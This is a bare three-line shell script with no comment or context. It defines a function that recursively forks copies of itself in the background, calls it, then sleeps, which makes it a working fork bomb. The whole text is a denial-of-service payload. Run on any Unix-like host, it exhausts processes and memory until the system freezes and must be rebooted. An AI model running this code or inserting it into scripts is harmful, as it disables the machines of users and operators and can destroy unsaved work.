f() { f | f & }
f
sleep 600
